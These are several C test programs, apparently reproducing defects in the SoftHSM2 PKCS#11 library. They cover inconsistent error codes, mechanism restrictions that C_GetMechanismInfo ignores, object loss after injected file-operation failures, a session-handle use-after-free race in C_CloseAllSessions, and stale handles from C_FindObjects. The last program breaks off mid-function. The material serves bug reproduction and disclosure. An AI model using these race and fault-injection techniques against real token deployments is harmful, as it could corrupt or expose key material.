	CHECK(gen_rsa(s, CK_FALSE, 1024, &pub, &priv));
	CK_MECHANISM m = { CKM_RSA_PKCS, NULL, 0 };
	CK_BYTE sig[128]; CK_ULONG sl = sizeof(sig);
	CHECK(F->C_SignInit(s, &m, priv));
	rv = F->C_SignFinal(s, sig, &sl);
	rv2 = F->C_SignInit(s, &m, priv);
	printf("6a) C_SignInit(CKM_RSA_PKCS); C_SignFinal -> 0x%lx; C_SignInit -> 0x%lx%s\n", rv, rv2,
		(rv == CKR_OPERATION_NOT_INITIALIZED && rv2 == CKR_OPERATION_ACTIVE) ? "   <-- \"not initialised\" and \"active\" at the same time" : "");
	if (rv != CKR_OK && rv2 == CKR_OPERATION_ACTIVE) a = 1;
	sl = sizeof(sig); CHECK(F->C_Sign(s, (CK_BYTE_PTR)"abc", 3, sig, &sl));   /* the old operation is still usable */
	CHECK(F->C_VerifyInit(s, &m, pub));
	rv = F->C_VerifyFinal(s, sig, sl);
	rv2 = F->C_VerifyInit(s, &m, pub);
	printf("    C_VerifyInit(CKM_RSA_PKCS); C_VerifyFinal -> 0x%lx; C_VerifyInit -> 0x%lx\n", rv, rv2);
	if (rv != CKR_OK && rv2 == CKR_OPERATION_ACTIVE) a = 1;
	F->C_Verify(s, (CK_BYTE_PTR)"abc", 3, sig, sl);

	/* 6b */
	CK_OBJECT_HANDLE aes = gen_aes(s, CK_FALSE, CK_FALSE, CK_TRUE);
	CK_BYTE iv[12] = { 1, 2, 3 }, pt[100], ct[200], out[200]; memset(pt, 0x5a, sizeof(pt));
	CK_GCM_PARAMS gcm = { iv, sizeof(iv), 96, NULL, 0, 128 };
	CK_MECHANISM gm = { CKM_AES_GCM, &gcm, sizeof(gcm) };
	CK_ULONG ctl = sizeof(ct), q = 0, l;
	CHECK(F->C_EncryptInit(s, &gm, aes));
	CHECK(F->C_Encrypt(s, pt, sizeof(pt), ct, &ctl));
	CHECK(F->C_DecryptInit(s, &gm, aes));
	CHECK(F->C_Decrypt(s, ct, ctl, NULL, &q));
	l = sizeof(pt); rv = F->C_Decrypt(s, ct, ctl, out, &l);
	printf("6b) AES-GCM, %lu bytes plaintext, %lu bytes ciphertext+tag: C_Decrypt(NULL) reports %lu; C_Decrypt with a %lu byte buffer -> 0x%lx (reports %lu)\n",
		(CK_ULONG)sizeof(pt), ctl, q, (CK_ULONG)sizeof(pt), rv, l);
	if (q > sizeof(pt) || rv == CKR_BUFFER_TOO_SMALL) b = 1;
	if (rv == CKR_BUFFER_TOO_SMALL) { l = sizeof(out); CHECK(F->C_Decrypt(s, ct, ctl, out, &l)); printf("    with a %lu byte buffer: ok, %lu bytes returned\n", (CK_ULONG)sizeof(out), l); }
	CHECK(F->C_DecryptInit(s, &gm, aes));
	l = 0; rv = F->C_DecryptUpdate(s, ct, 60, out, &l);
	printf("    C_DecryptUpdate(60 bytes) with a 0 byte buffer -> 0x%lx (reports %lu)\n", rv, l);
	l = sizeof(out); CHECK(F->C_DecryptUpdate(s, ct, 60, out, &l));
	printf("    C_DecryptUpdate(60 bytes) with a large buffer returns %lu bytes\n", l);
	l = sizeof(out); CHECK(F->C_DecryptUpdate(s, ct + 60, ctl - 60, out, &l));
	q = 0; CHECK(F->C_DecryptFinal(s, NULL, &q));
	l = sizeof(pt); rv = F->C_DecryptFinal(s, out, &l);
	printf("    C_DecryptFinal(NULL) reports %lu; with a %lu byte buffer -> 0x%lx\n", q, (CK_ULONG)sizeof(pt), rv);
	if (q > sizeof(pt) || rv == CKR_BUFFER_TOO_SMALL) b = 1;

	F->C_Finalize(NULL);
	cleanup();
	printf("6a: %s\n6b: %s\n", a ? "DEFECT REPRODUCED" : "not reproduced", b ? "DEFECT REPRODUCED" : "not reproduced");
	return (a || b) ? 1 : 0;
}
