#include <stdio.h>
#include <string.h>
#include <dlfcn.h>
#include "cryptoki.h"
int main(int argc,char**argv){ void*h=dlopen("/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); CK_FUNCTION_LIST_PTR p; g(&p);
 p->C_Initialize(NULL); CK_ULONG n=8; CK_SLOT_ID s[8]; p->C_GetSlotList(CK_TRUE,s,&n); CK_SESSION_HANDLE hs; p->C_OpenSession(s[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&hs); p->C_Login(hs,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4);
 CK_ATTRIBUTE ft[]={{CKA_LABEL,"datekey",7}}; CK_OBJECT_HANDLE o[4]; CK_ULONG c=0; p->C_FindObjectsInit(hs,ft,1); p->C_FindObjects(hs,o,4,&c); p->C_FindObjectsFinal(hs); printf("found %lu key(s) labelled datekey\n",c);
 if(argc>1 && c){ CK_ATTRIBUTE st={CKA_ID,"id-1",4}; puts("MARK before C_SetAttributeValue"); fflush(stdout); CK_RV r=p->C_SetAttributeValue(hs,o[0],&st,1); printf("set rv=0x%lx\n",r);} return 0; }
