/*
 * Defect 4: C_GetMechanismInfo ignores slots.mechanisms.
 * A mechanism that the configuration removed from the token's mechanism list is no longer in
 * C_GetMechanismList and is refused by C_EncryptInit, C_DigestInit, C_GenerateKey ... - but
 * C_GetMechanismInfo still answers CKR_OK and advertises it with its usage flags.
 *
 * exit 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
#include "p11h.h"

#define A(t, v) { t, &v, sizeof(v) }

static int in_list(CK_MECHANISM_TYPE m)
{
	CK_MECHANISM_TYPE list[256]; CK_ULONG n = 256;
	CHECK_SETUP(F->C_GetMechanismList(g_slot, list, &n));
	for (CK_ULONG i = 0; i < n; i++) if (list[i] == m) return 1;
	return 0;
}

static int scenario(const char *libdir)
{
	CK_RV rv;
	int bad = 0;
	/* negative list: everything except these */
	p11_setup(libdir, "slots.mechanisms = -CKM_AES_CBC,CKM_MD5,CKM_AES_KEY_GEN,CKM_AES_KEY_WRAP,CKM_CONCATENATE_BASE_AND_DATA");
	printf("softhsm2.conf: slots.mechanisms = -CKM_AES_CBC,CKM_MD5,CKM_AES_KEY_GEN,CKM_AES_KEY_WRAP,CKM_CONCATENATE_BASE_AND_DATA\n");
	CK_SESSION_HANDLE s = open_rw();
	login_user(s);

	CK_OBJECT_CLASS sk = CKO_SECRET_KEY; CK_KEY_TYPE kaes = CKK_AES, kgen = CKK_GENERIC_SECRET;
	CK_BYTE kv[16] = { 0 };
	CK_ATTRIBUTE aT[] = { A(CKA_CLASS, sk), A(CKA_KEY_TYPE, kaes), { CKA_VALUE, kv, 16 }, A(CKA_ENCRYPT, ckTrue), A(CKA_DECRYPT, ckTrue),
			      A(CKA_WRAP, ckTrue), A(CKA_UNWRAP, ckTrue), A(CKA_EXTRACTABLE, ckTrue), A(CKA_DERIVE, ckTrue) };
	CK_OBJECT_HANDLE hK;
	CHECK_SETUP(F->C_CreateObject(s, aT, 9, &hK));

	CK_BYTE iv[16] = { 0 };
	CK_MECHANISM cbc = { CKM_AES_CBC, iv, 16 }, md5 = { CKM_MD5, NULL, 0 }, kg = { CKM_AES_KEY_GEN, NULL, 0 }, kw = { CKM_AES_KEY_WRAP, NULL, 0 };
	CK_ULONG len = 16; CK_ATTRIBUTE gT[] = { A(CKA_VALUE_LEN, len) };
	CK_OBJECT_HANDLE h; CK_BYTE buf[64]; CK_ULONG bl = sizeof buf;
	CK_BYTE d[4] = { 1, 2, 3, 4 }; CK_KEY_DERIVATION_STRING_DATA sd = { d, 4 };
	CK_MECHANISM cat = { CKM_CONCATENATE_BASE_AND_DATA, &sd, sizeof sd };
	CK_ATTRIBUTE dT[] = { A(CKA_CLASS, sk), A(CKA_KEY_TYPE, kgen) };

	printf("entry points that take the removed mechanisms (0x70 = CKR_MECHANISM_INVALID expected everywhere):\n");
	printf("  C_GetMechanismList contains CKM_AES_CBC: %s\n", in_list(CKM_AES_CBC) ? "yes" : "no");
	printf("  C_EncryptInit(CKM_AES_CBC)   -> 0x%lx\n", F->C_EncryptInit(s, &cbc, hK));
	printf("  C_DecryptInit(CKM_AES_CBC)   -> 0x%lx\n", F->C_DecryptInit(s, &cbc, hK));
	printf("  C_WrapKey(CKM_AES_CBC)       -> 0x%lx\n", F->C_WrapKey(s, &cbc, hK, hK, buf, &bl));
	printf("  C_DigestInit(CKM_MD5)        -> 0x%lx\n", F->C_DigestInit(s, &md5));
	printf("  C_GenerateKey(CKM_AES_KEY_GEN) -> 0x%lx\n", F->C_GenerateKey(s, &kg, gT, 1, &h));
	bl = sizeof buf;
	printf("  C_WrapKey(CKM_AES_KEY_WRAP)  -> 0x%lx\n", F->C_WrapKey(s, &kw, hK, hK, buf, &bl));
	printf("  C_UnwrapKey(CKM_AES_KEY_WRAP)-> 0x%lx\n", F->C_UnwrapKey(s, &kw, hK, buf, 24, dT, 2, &h));
	printf("  C_DeriveKey(CKM_CONCATENATE_BASE_AND_DATA) -> 0x%lx\n", F->C_DeriveKey(s, &cat, hK, dT, 2, &h));

	CK_MECHANISM_TYPE removed[] = { CKM_AES_CBC, CKM_MD5, CKM_AES_KEY_GEN, CKM_AES_KEY_WRAP, CKM_CONCATENATE_BASE_AND_DATA };
	const char *names[] = { "CKM_AES_CBC", "CKM_MD5", "CKM_AES_KEY_GEN", "CKM_AES_KEY_WRAP", "CKM_CONCATENATE_BASE_AND_DATA" };
	for (int i = 0; i < 5; i++)
	{
		CK_MECHANISM_INFO mi; memset(&mi, 0, sizeof mi);
		rv = F->C_GetMechanismInfo(g_slot, removed[i], &mi);
		printf("  C_GetMechanismInfo(%s): in C_GetMechanismList=%s -> 0x%lx", names[i], in_list(removed[i]) ? "yes" : "no", rv);
		if (rv == CKR_OK) { printf(" flags=0x%lx min=%lu max=%lu   <-- still advertised", mi.flags, mi.ulMinKeySize, mi.ulMaxKeySize); if (!in_list(removed[i])) bad++; }
		printf("\n");
	}
	/* a mechanism the library never supports, for comparison */
	CK_MECHANISM_INFO mi;
	rv = F->C_GetMechanismInfo(g_slot, CKM_RC4, &mi);
	printf("  C_GetMechanismInfo(CKM_RC4, never supported) -> 0x%lx\n", rv);
	p11_cleanup();

	printf("\nproperty C07: ... the mechanism is in the token's advertised mechanism list as restricted by slots.mechanisms. A mechanism that\n"
	       "the configuration removed from that list is refused by every entry point that takes a mechanism.\n");
	if (bad)
	{
		printf("observed: C_GetMechanismInfo returned CKR_OK (with usage flags) for %d mechanisms that slots.mechanisms removed and that\n"
		       "C_GetMechanismList no longer reports. DEFECT REPRODUCED\n", bad);
		return 1;
	}
	printf("not reproduced\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) { printf("usage: %s <dir with libsofthsm2.so>\n", argv[0]); return 2; }
	int r = run_child(scenario, argv[1]);
	if (r >= 100) { printf("the scenario crashed\n"); return 2; }
	return r;
}
