/*
 * Defect 3 - a C_SetAttributeValue / C_DestroyObject that FAILS because one file operation failed
 * nevertheless removes the object from the process' view (every session), although the object file
 * is untouched on disk; after the failed C_SetAttributeValue the object's lock file additionally stays
 * locked, so that other processes block for ever.
 *
 * One failure is injected by interposing open() / remove() in this executable (same effect as EMFILE,
 * EACCES, EROFS, ENOSPC on a quota'd file system ...). Nothing in the library is modified.
 */
#include "p11util.h"
#include <stdarg.h>
#include <sys/syscall.h>

static volatile int fail_open_rdwr_object = 0;
static volatile int fail_remove = 0;
static int to_parent = -1, from_parent = -1;

int open(const char *path, int flags, ...)
{
	mode_t mode = 0;
	if (flags & O_CREAT) { va_list ap; va_start(ap, flags); mode = va_arg(ap, mode_t); va_end(ap); }
	size_t l = strlen(path);
	if (fail_open_rdwr_object > 0 && (flags & O_ACCMODE) == O_RDWR && l > 7 && !strcmp(path + l - 7, ".object") && !strstr(path, "token.object")) {
		fail_open_rdwr_object--;
		errno = EMFILE;
		return -1;
	}
	return (int) syscall(SYS_openat, AT_FDCWD, path, flags, mode);
}

int remove(const char *path)
{
	if (fail_remove > 0) { fail_remove--; errno = EACCES; return -1; }
	return (int) syscall(SYS_unlink, path);
}

static int setup(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	p11_make_token("defect3");
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_CLASS cls = CKO_SECRET_KEY; CK_BBOOL t = CK_TRUE, f = CK_FALSE; CK_KEY_TYPE kt = CKK_GENERIC_SECRET;
	CK_ATTRIBUTE tmpl[] = { { CKA_CLASS, &cls, sizeof(cls) }, { CKA_KEY_TYPE, &kt, sizeof(kt) }, { CKA_TOKEN, &t, 1 }, { CKA_PRIVATE, &f, 1 },
		{ CKA_LABEL, "victim", 6 }, { CKA_ID, "id0", 3 }, { CKA_VALUE, "payloadpayload16", 16 } };
	CK_OBJECT_HANDLE o;
	MUST(F->C_CreateObject(h, tmpl, 7, &o));
	MUST(F->C_Finalize(NULL));
	return 0;
}

/* what this process sees of the object; returns 1 when it is fully there with label 'victim' */
static int show(CK_SESSION_HANDLE h, CK_SESSION_HANDLE h2, CK_OBJECT_HANDLE o, const char *when)
{
	char lab[64] = { 0 }; CK_RV rv;
	CK_OBJECT_HANDLE f[4];
	p11_get(h, o, CKA_LABEL, lab, 63, &rv);
	CK_ULONG n = p11_find(h, NULL, 0, f, 4);
	CK_ULONG n2 = p11_find(h2, NULL, 0, f, 4);
	SAY("  %s: C_GetAttributeValue(h, CKA_LABEL) -> 0x%lx '%s'; C_FindObjects: session 1 finds %lu, session 2 finds %lu; object files on disk: %d\n",
	    when, rv, lab, n, n2, p11_count_object_files());
	return rv == CKR_OK && !strcmp(lab, "victim") && n == 1 && n2 == 1;
}

static int other_process_sets(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o[2];
	if (p11_find_label(h, "victim", o, 2) != 1) { SAY("  other process: victim not found\n"); return 3; }
	CK_ATTRIBUTE set[] = { { CKA_ID, "id1", 3 } };
	SAY("  other process: finds the object (it is intact on disk) and calls C_SetAttributeValue(CKA_ID) with a 5 s alarm ...\n");
	alarm(5);
	CK_RV rv = F->C_SetAttributeValue(h, o[0], set, 1);
	alarm(0);
	SAY("  other process: C_SetAttributeValue returned 0x%lx\n", rv);
	return 0;
}

static int scenario_set(void *u)
{
	(void) u;
	int bad = 0;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session(), h2;
	MUST(F->C_OpenSession(p11_slot(1), CKF_SERIAL_SESSION, NULL, NULL, &h2));
	CK_OBJECT_HANDLE o[4];
	if (p11_find_label(h, "victim", o, 4) != 1) return 2;
	if (!show(h, h2, o[0], "before")) return 2;
	CK_ATTRIBUTE set[] = { { CKA_LABEL, "changed", 7 } };
	fail_open_rdwr_object = 1;
	CK_RV rv = F->C_SetAttributeValue(h, o[0], set, 1);
	fail_open_rdwr_object = 0;
	SAY("  C_SetAttributeValue(CKA_LABEL=\"changed\") with ONE failing open(O_RDWR) of the object file -> 0x%lx\n", rv);
	if (rv == CKR_OK) return 2;
	if (!show(h, h2, o[0], "after ")) bad = 1;
	CK_ATTRIBUTE set2[] = { { CKA_LABEL, "victim", 6 } };
	rv = F->C_SetAttributeValue(h, o[0], set2, 1);
	SAY("  another C_SetAttributeValue on the same handle, nothing fails any more -> 0x%lx (0x82 = CKR_OBJECT_HANDLE_INVALID)\n", rv);
	if (rv != CKR_OK) bad = 1;
	/* stay alive (and keep whatever locks this process holds) while the parent runs another process */
	char c = bad ? 'b' : 'g';
	if (write(to_parent, &c, 1) != 1 || read(from_parent, &c, 1) != 1) return 2;
	return bad;
}

static int scenario_destroy(void *u)
{
	(void) u;
	int bad = 0;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session(), h2;
	MUST(F->C_OpenSession(p11_slot(1), CKF_SERIAL_SESSION, NULL, NULL, &h2));
	CK_OBJECT_HANDLE o[4];
	if (p11_find_label(h, "victim", o, 4) != 1) return 2;
	if (!show(h, h2, o[0], "before")) return 2;
	fail_remove = 1;
	CK_RV rv = F->C_DestroyObject(h, o[0]);
	fail_remove = 0;
	SAY("  C_DestroyObject with a failing remove() -> 0x%lx\n", rv);
	if (rv == CKR_OK) return 2;
	if (!show(h, h2, o[0], "after ")) bad = 1;
	return bad;
}

/* the object's (empty) .lock file is absent, e.g. the directory was restored from a backup of the *.object files */
static int scenario_nolock(void *u)
{
	(void) u;
	int bad = 0;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session(), h2;
	MUST(F->C_OpenSession(p11_slot(1), CKF_SERIAL_SESSION, NULL, NULL, &h2));
	CK_OBJECT_HANDLE o[4];
	if (p11_find_label(h, "victim", o, 4) != 1) return 2;
	if (!show(h, h2, o[0], "before")) return 2;
	CK_RV rv = F->C_DestroyObject(h, o[0]);
	SAY("  C_DestroyObject (nothing injected, the .lock file simply does not exist) -> 0x%lx\n", rv);
	if (rv == CKR_OK) return 0;
	if (!show(h, h2, o[0], "after ")) bad = 1;
	return bad;
}

static int fresh(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o[4]; char lab[64] = { 0 };
	CK_ULONG n = p11_find(h, NULL, 0, o, 4);
	if (n) p11_get(h, o[0], CKA_LABEL, lab, 63, NULL);
	SAY("  a fresh process finds %lu object(s), CKA_LABEL='%s'\n", n, lab);
	return 0;
}

int main(int argc, char **argv)
{
	const char *libdir = argc > 1 ? argv[1] : ".";
	int result = 0, r;
	p11_setup_dirs(libdir);
	p11_load(libdir);
	SAY("Set-up: one token, one public secret key token object labelled 'victim'.\n");
	if (p11_in_child(setup, NULL)) return 2;

	SAY("\nScenario 1: C_SetAttributeValue fails because the object file cannot be opened for writing\n");
	{
		int p2c[2], c2p[2], st; char c = 0;
		if (pipe(p2c) || pipe(c2p)) return 2;
		fflush(stdout);
		pid_t p = fork();
		if (p < 0) return 2;
		if (p == 0) { to_parent = c2p[1]; from_parent = p2c[0]; _exit(scenario_set(NULL)); }
		if (read(c2p[0], &c, 1) != 1) { SAY("SETUP FAILURE in scenario 1\n"); return 2; }
		if (c == 'b') result = 1;
		SAY("  (the process of scenario 1 stays alive)\n");
		r = p11_in_child(other_process_sets, NULL);
		if (r == 1000 + SIGALRM) { SAY("  other process: still blocked after 5 s (killed by SIGALRM): the failed call left the object's .lock file locked\n"); result = 1; }
		else if (r) SAY("  other process: status %d\n", r);
		if (write(p2c[1], &c, 1) != 1) return 2;
		waitpid(p, &st, 0);
	}
	p11_in_child(fresh, NULL);

	SAY("\nScenario 2: C_DestroyObject fails because the object file cannot be removed\n");
	r = p11_in_child(scenario_destroy, NULL);
	if (r == 1) result = 1; else if (r) return 2;
	p11_in_child(fresh, NULL);

	SAY("\nScenario 3: C_DestroyObject of an object whose .lock file is missing\n");
	{
		char cmd[1400];
		snprintf(cmd, sizeof(cmd), "cd '%s' && ls | grep '\\.lock$' | grep -v '^token\\.lock$' | xargs -r rm -f", p11_token_dir());
		if (system(cmd)) return 2;
	}
	r = p11_in_child(scenario_nolock, NULL);
	if (r == 1) { result = 1; SAY("  the call reported failure (0x6 = CKR_FUNCTION_FAILED) but it did destroy the object\n"); } else if (r) return 2;
	p11_in_child(fresh, NULL);

	SAY("\nProperty C09: when an object-management call returns an error, the set of objects and every attribute\n"
	    "value - in memory, as seen by every session, and in the token directory - are exactly what they were before.\n");
	SAY(result ? "OBSERVED: scenario 1 and 2: after the failed call the object is gone for all sessions of the process (handle invalid,\n"
	             "not found) while it is unchanged on disk; scenario 3: the failed call destroyed the object. DEFECT REPRODUCED\n" : "not reproduced\n");
	return result;
}
