/*
 * Defect 5 (C11): C_CloseAllSessions is three separate steps under three
 * different locks:
 *
 *   1. handleManager->allSessionsClosed(slot)         [handlesMutex]  forget all handles of the slot
 *   2. sessionObjectStore->allSessionsClosed(slot)    [storeMutex]    destroy its session objects
 *   3. sessionManager->closeAllSessions(slot)         [sessionsMutex] delete the Session objects
 *
 * A C_OpenSession on the same slot that runs between 1 and 3 gets a fresh
 * handle registered in the handle manager; step 3 then deletes the Session the
 * handle points to.  The handle stays "valid" but refers to freed memory: it
 * later denotes whatever Session is allocated there next, or crashes.
 *
 * Part 1 makes the interleaving deterministic through application supplied
 * mutex callbacks (CK_C_INITIALIZE_ARGS): the thread running
 * C_CloseAllSessions is held at its n-th LockMutex request until the other
 * thread has finished C_OpenSession.  Part 2 (informational) runs plain
 * threads with CKF_OS_LOCKING_OK and no delays.
 */
#include "p11h_e.h"
#include <pthread.h>
#include <sched.h>

static __thread int tl_closer = 0;
static volatile int armed = 0, lockcount = 0, pause_at = 0, go = 0, done = 0;

static CK_RV mx_create(CK_VOID_PTR_PTR pp) { pthread_mutex_t* m = malloc(sizeof(*m)); if (!m) return CKR_HOST_MEMORY; pthread_mutex_init(m, NULL); *pp = m; return CKR_OK; }
static CK_RV mx_destroy(CK_VOID_PTR p) { pthread_mutex_destroy((pthread_mutex_t*)p); free(p); return CKR_OK; }
static CK_RV mx_unlock(CK_VOID_PTR p) { pthread_mutex_unlock((pthread_mutex_t*)p); return CKR_OK; }
static CK_RV mx_lock(CK_VOID_PTR p)
{
	if (tl_closer && armed)
	{
		int n = ++lockcount;
		if (n == pause_at) { int w = 0; go = 1; while (!done && w++ < 1500) usleep(1000); }
	}
	pthread_mutex_lock((pthread_mutex_t*)p);
	return CKR_OK;
}

static CK_SLOT_ID g_slot;
static CK_SESSION_HANDLE g_h;
static CK_RV g_rvOpen;
static int g_n;

static void* opener(void* x)
{
	(void)x;
	while (!go) usleep(200);
	g_rvOpen = F->C_OpenSession(g_slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL_PTR, NULL_PTR, &g_h);
	done = 1;
	return NULL;
}

/* exit codes: 0 consistent, 1 defect observed, 2 set-up problem; a crash is seen by the parent */
static int attempt(void)
{
	CK_C_INITIALIZE_ARGS ia = { mx_create, mx_destroy, mx_lock, mx_unlock, 0, NULL_PTR };
	CK_SESSION_HANDLE h2;
	CK_SESSION_INFO si;
	CK_RV rv, rvClose;
	pthread_t th;

	MUST(F->C_Initialize(&ia));
	g_slot = slot_by_label("tokA");
	pthread_create(&th, NULL, opener, NULL);
	tl_closer = 1; lockcount = 0; pause_at = g_n; armed = 1;
	rvClose = F->C_CloseAllSessions(g_slot);
	armed = 0;
	if (!go) go = 1;
	pthread_join(th, NULL);
	SAY("  n=%d: thread 1 C_CloseAllSessions(slot) -> 0x%lx ; thread 2 C_OpenSession(slot, R/W) -> 0x%lx, handle %lu", g_n, rvClose, g_rvOpen, g_h);
	if (rvClose != CKR_OK || g_rvOpen != CKR_OK) return 2;

	memset(&si, 0, sizeof(si));
	rv = F->C_GetSessionInfo(g_h, &si);
	if (rv == CKR_SESSION_HANDLE_INVALID)
	{
		SAY("        C_GetSessionInfo(%lu) -> CKR_SESSION_HANDLE_INVALID : the new session was closed together with the others - consistent", g_h);
		F->C_Finalize(NULL_PTR);
		return 0;
	}
	SAY("        C_GetSessionInfo(%lu) -> 0x%lx flags 0x%lx : the library accepts the handle", g_h, rv, si.flags);
	MUST(F->C_OpenSession(g_slot, CKF_SERIAL_SESSION, NULL_PTR, NULL_PTR, &h2));
	SAY("        C_OpenSession(slot, READ-ONLY) -> handle %lu", h2);
	memset(&si, 0, sizeof(si));
	rv = F->C_GetSessionInfo(g_h, &si);
	SAY("        C_GetSessionInfo(%lu) -> 0x%lx flags 0x%lx (CKF_RW_SESSION %s) - the session was opened R/W", g_h, rv, si.flags, (si.flags & CKF_RW_SESSION) ? "set" : "NOT set");
	if (rv == CKR_OK && !(si.flags & CKF_RW_SESSION))
	{
		SAY("        -> handle %lu now denotes the read-only session of handle %lu (its Session object was freed and the memory reused)", g_h, h2);
		fflush(stdout);
		return 1;
	}
	MUST(F->C_CloseSession(h2));
	SAY("        C_CloseSession(%lu) -> CKR_OK ; now C_GetSessionInfo(%lu) again ...", h2, g_h);
	rv = F->C_GetSessionInfo(g_h, &si);
	SAY("        C_GetSessionInfo(%lu) -> 0x%lx flags 0x%lx", g_h, rv, si.flags);
	/* is the session known to the session manager?  C_InitToken must be refused while a session is open */
	{
		char lab[33]; memset(lab, ' ', 32); memcpy(lab, "tokA", 4);
		rv = F->C_InitToken(g_slot, (CK_UTF8CHAR_PTR)"sopin123", 8, (CK_UTF8CHAR_PTR)lab);
		SAY("        C_InitToken(slot) while handle %lu is accepted -> 0x%lx (CKR_SESSION_EXISTS=0x%lx expected)", g_h, rv, (unsigned long)CKR_SESSION_EXISTS);
		if (rv == CKR_OK) return 1;
	}
	F->C_Finalize(NULL_PTR);
	return 0;
}

/* informational: plain threads */
static pthread_barrier_t bar;
static void* nat_closer(void* x) { (void)x; pthread_barrier_wait(&bar); F->C_CloseAllSessions(g_slot); return NULL; }
static void* nat_opener(void* x)
{
	volatile long spin = (long)(size_t)x;
	pthread_barrier_wait(&bar);
	while (spin-- > 0) { }
	g_rvOpen = F->C_OpenSession(g_slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL_PTR, NULL_PTR, &g_h);
	return NULL;
}
static int natural(void)
{
	CK_C_INITIALIZE_ARGS ia = { NULL_PTR, NULL_PTR, NULL_PTR, NULL_PTR, CKF_OS_LOCKING_OK, NULL_PTR };
	CK_SLOT_ID other; CK_SESSION_HANDLE so; int i; long bad = 0, closed = 0, alive = 0;
	MUST(F->C_Initialize(&ia));
	g_slot = slot_by_label("tokA");
	other = slot_by_label("tokB");
	/* session objects on ANOTHER token make step 2 (which copies and walks the global set) take longer */
	so = open_rw(other);
	for (i = 0; i < 20000; i++) { CK_OBJECT_HANDLE o; MUST(make_data(so, CK_FALSE, CK_FALSE, "filler", &o)); }
	SAY("  20000 session objects exist on another token; each round: thread 1 C_CloseAllSessions(tokA) || thread 2 C_OpenSession(tokA, R/W)");
	for (i = 0; i < 1500 && !bad; i++)
	{
		pthread_t a, b; CK_SESSION_INFO si; CK_RV rv1, rv2;
		pthread_barrier_init(&bar, NULL, 2);
		pthread_create(&a, NULL, nat_closer, NULL);
		pthread_create(&b, NULL, nat_opener, (void*)(size_t)((i % 50) * 2000));
		pthread_join(a, NULL); pthread_join(b, NULL);
		pthread_barrier_destroy(&bar);
		if (g_rvOpen != CKR_OK) continue;
		rv1 = F->C_GetSessionInfo(g_h, &si);
		if (rv1 == CKR_SESSION_HANDLE_INVALID) { closed++; continue; }
		rv2 = F->C_CloseSession(g_h);
		if (rv1 == CKR_OK && rv2 == CKR_OK && (si.flags & CKF_RW_SESSION)) { alive++; continue; }
		SAY("  round %d: handle %lu: C_GetSessionInfo -> 0x%lx (flags 0x%lx), immediately followed by C_CloseSession -> 0x%lx", i, g_h, rv1, si.flags, rv2);
		SAY("            the handle manager accepts the handle, the session manager has no such session any more");
		bad++;
	}
	SAY("  outcomes: %ld x session closed by C_CloseAllSessions, %ld x session alive, %ld x dangling handle", closed, alive, bad);
	F->C_Finalize(NULL_PTR);
	return bad ? 1 : 0;
}

static int setup(void)
{
	MUST(F->C_Initialize(NULL_PTR));
	new_token("tokA", "sopin123", "userpin1");
	new_token("tokB", "sopin123", "userpin1");
	MUST(F->C_Finalize(NULL_PTR));
	return 0;
}

int main(int argc, char** argv)
{
	int reproduced = 0, r;
	if (argc < 2) SETUP_FAIL("usage: repro <libdir>");
	make_conf();
	load_lib(argv[1]);
	if (run_child(setup, 60) != 0) { rm_rf_dir(); return 2; }

	SAY("Property C11: \"... a valid handle always denotes the same session or object.  After ... C_CloseAllSessions ... exactly the");
	SAY("  affected handles ... are rejected as invalid from then on ..., while every other handle keeps working.\"");
	SAY("  A session opened concurrently with C_CloseAllSessions must afterwards either be closed (handle invalid) or be a working session.");
	SAY("");
	SAY("Part 1: application supplied mutex callbacks; thread 1 is held at its n-th LockMutex request inside C_CloseAllSessions");
	for (g_n = 1; g_n <= 6 && !reproduced; g_n++)
	{
		r = run_child(attempt, 30);
		if (r == 1) { reproduced = 1; }
		else if (r >= 100) { SAY("        -> the library CRASHED (signal %d) when the dangling session handle was used", r - 100); reproduced = 1; }
		else if (r != 0) SAY("  n=%d: attempt ended with %d", g_n, r);
	}
	SAY("  => %s", reproduced ? "VIOLATION: a handle the library accepts refers to a Session object that was deleted" : "not reproduced with delays");
	SAY("Part 2 (informational, timing dependent): plain threads, CKF_OS_LOCKING_OK, no delays");
	r = run_child(natural, 300);
	if (r >= 100) SAY("  => the library crashed (signal %d) - the race occurs without any help", r - 100);
	else SAY("  => %s", r == 1 ? "the race also occurs without any help" : "not hit in this run");
	rm_rf_dir();
	if (reproduced || r == 1 || r >= 100) { SAY("DEFECT REPRODUCED"); return 1; }
	SAY("not reproduced");
	return 0;
}
