/*
 * Defect 1 (C19): C_FindObjects hands out objects that were destroyed, or that
 * the session may no longer see, after C_FindObjectsInit.
 *
 * C_FindObjectsInit stores the complete list of matching *handles* in the
 * session; C_FindObjects only copies numbers out of that list and never looks
 * at the objects again.
 */
#include "p11h_e.h"

static const char* g_lib;

static int count_and_probe(CK_SESSION_HANDLE s, CK_OBJECT_HANDLE* got, CK_ULONG n, CK_OBJECT_HANDLE bad, const char* what)
{
	int hit = 0;
	CK_ULONG i;
	for (i = 0; i < n; i++)
	{
		CK_RV rv = probe_obj(s, got[i]);
		SAY("    C_FindObjects returned handle %lu; C_GetAttributeValue on it -> 0x%lx%s", got[i], rv,
		    rv == CKR_OBJECT_HANDLE_INVALID ? " (CKR_OBJECT_HANDLE_INVALID)" : "");
		if (got[i] == bad) { hit = 1; SAY("    ^^^ this is the handle of %s", what); }
	}
	return hit;
}

/* Scenario A: an object is destroyed between C_FindObjectsInit and C_FindObjects */
static int scenario_destroyed(void)
{
	CK_SLOT_ID slot;
	CK_SESSION_HANDLE s1, s2;
